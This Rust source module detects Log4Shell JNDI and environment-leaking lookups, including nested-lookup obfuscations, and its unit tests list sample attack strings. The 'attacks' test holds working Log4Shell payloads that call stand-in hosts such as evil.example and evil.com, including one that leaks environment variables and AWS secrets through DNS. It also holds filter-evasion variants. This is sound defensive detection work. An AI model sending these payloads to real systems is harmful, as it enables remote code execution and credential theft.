//! Log4Shell: `${jndi:…}` lookups, with the nested-lookup evasions (`${${lower:j}ndi:`,
//! `${${::-j}${::-n}di:`, `${${env:X:-j}ndi:`, `${date:'j'}`), and the other lookups that leak
//! the environment (`${env:…}`, `${sys:…}`, `${java:…}`, …).
//!
//! Each `${` starts a small evaluator that resolves nested lookups the way Log4j would (the
//! default after `:-`, the argument of `lower`/`upper`, a quoted date pattern) to the text of
//! the lookup's key, with bounded depth and length.

use super::Detection;
use super::util::found;

/// The deepest nesting followed.
const MAX_DEPTH: u32 = 8;
/// The most `${` evaluated in one value.
const MAX_LOOKUPS: u32 = 64;
/// The longest resolved key kept (only its start matters).
const KEY_LEN: usize = 24;

/// Lookups that give away the environment or run code.
const LOOKUPS: &[&[u8]] = &[
    b"jndi:",
    b"env:",
    b"sys:",
    b"java:",
    b"ctx:",
    b"main:",
    b"base64:",
    b"k8s:",
    b"docker:",
    b"spring:",
    b"bundle:",
    b"log4j:",
    b"jvmrunargs:",
    b"web:",
    b"sd:",
    b"marker:",
    b"event:",
    b"script:",
    b"dns:",
    b"url:",
];

/// Whether `input` carries a Log4j lookup.
pub(crate) fn detect(input: &[u8]) -> Option<Detection> {
    let mut i = 0;
    let mut evaluated = 0u32;
    while let Some(p) = memchr::memchr(b'$', &input[i..]) {
        let start = i + p;
        if input.get(start + 1) != Some(&b'{') {
            i = start + 1;
            continue;
        }
        evaluated += 1;
        if evaluated > MAX_LOOKUPS {
            // a flood of lookups: stop evaluating (the cost must stay linear) and settle for
            // the plain spelling after any of them
            let rest = &input[start..];
            let plain = rest.windows(5).any(|w| w.eq_ignore_ascii_case(b"jndi:"));
            return plain.then(|| found("log4j:jndi", &rest[..rest.len().min(64)]));
        }
        let mut key = Key::default();
        // lookups are short: a bounded walk per `${`, so the cost stays linear
        let mut budget = 256usize;
        let _ = lookup(input, start + 2, 0, &mut key, &mut budget);
        let k = &key.buf[..key.len];
        let lowered: Vec<u8> = k.iter().map(u8::to_ascii_lowercase).collect();
        // `jndi` spelled across lookups, or any environment lookup
        let compact: Vec<u8> = lowered
            .iter()
            .copied()
            .filter(|c| !c.is_ascii_whitespace())
            .collect();
        if compact.starts_with(b"jndi") {
            return Some(found(
                "log4j:jndi",
                &input[start..input.len().min(start + 64)],
            ));
        }
        if LOOKUPS.iter().any(|l| compact.starts_with(l)) && (key.nested || compact.len() > 4) {
            return Some(found(
                "log4j:lookup",
                &input[start..input.len().min(start + 64)],
            ));
        }
        i = start + 2;
    }
    None
}

/// The resolved start of a lookup's text.
#[derive(Default)]
struct Key {
    buf: [u8; KEY_LEN],
    len: usize,
    /// A nested lookup contributed to the key.
    nested: bool,
}

impl Key {
    fn push(&mut self, b: u8) {
        if self.len < KEY_LEN {
            self.buf[self.len] = b;
            self.len += 1;
        }
    }
}

/// Reads the body of a lookup starting at `i` (after `${`) into `key`, resolving nested
/// lookups; returns the index after its closing `}`.
fn lookup(input: &[u8], mut i: usize, depth: u32, key: &mut Key, budget: &mut usize) -> usize {
    while i < input.len() {
        if *budget == 0 {
            return input.len();
        }
        *budget -= 1;
        match input[i] {
            b'}' => return i + 1,
            b'$' if input.get(i + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                let mut inner = Key::default();
                let next = lookup(input, i + 2, depth + 1, &mut inner, budget);
                let value = resolve(&inner.buf[..inner.len]);
                for &b in value {
                    key.push(b);
                }
                key.nested = true;
                i = next;
            }
            b => {
                key.push(b);
                i += 1;
            }
        }
    }
    input.len()
}

/// What a nested lookup evaluates to, as far as spelling the outer key goes.
fn resolve(text: &[u8]) -> &[u8] {
    // `${anything:-default}` → default
    if let Some(p) = text.windows(2).position(|w| w == b":-") {
        return &text[p + 2..];
    }
    let lower = |prefix: &[u8]| {
        text.len() > prefix.len() && text[..prefix.len()].eq_ignore_ascii_case(prefix)
    };
    if lower(b"lower:") || lower(b"upper:") {
        return &text[6..];
    }
    if lower(b"date:") {
        // `${date:'j'}` prints the quoted letters
        let t = &text[5..];
        return t
            .strip_prefix(b"'")
            .and_then(|t| t.strip_suffix(b"'"))
            .unwrap_or(t);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn hit(s: &str) -> bool {
        detect(s.as_bytes()).is_some()
    }

    #[test]
    fn attacks() {
        for s in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:rmi://x/y}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/p}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
            "${${upper:j}${upper:n}${lower:d}i:dns://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${jndi:dns://${env:USER}.evil.example}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:java.version}",
            "User-Agent: ${jndi:ldap://127.0.0.1:1389/a}",
            "${${::-j}ndi:ldap://x}",
            "${j${::-n}di:ldap://x}",
            "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
            "{\"foo\": \"${:1337:-x$}{jndi:ldap://evil.com/webshell}\"} ${jndi :ldap://x}",
            "${java:version}",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "Hello ${name}",
            "${user.name}",
            "price ${price}",
            "${HOME}",
            "template ${a:b}",
            "${}",
            "$ {jndi}",
            "costs $5 {approx}",
            "`${x}`",
            "${date}",
            "${env}",
            "${lower}",
            "jndi:ldap://x without a lookup",
            "${a}${b}${c}",
            "${ not closed",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
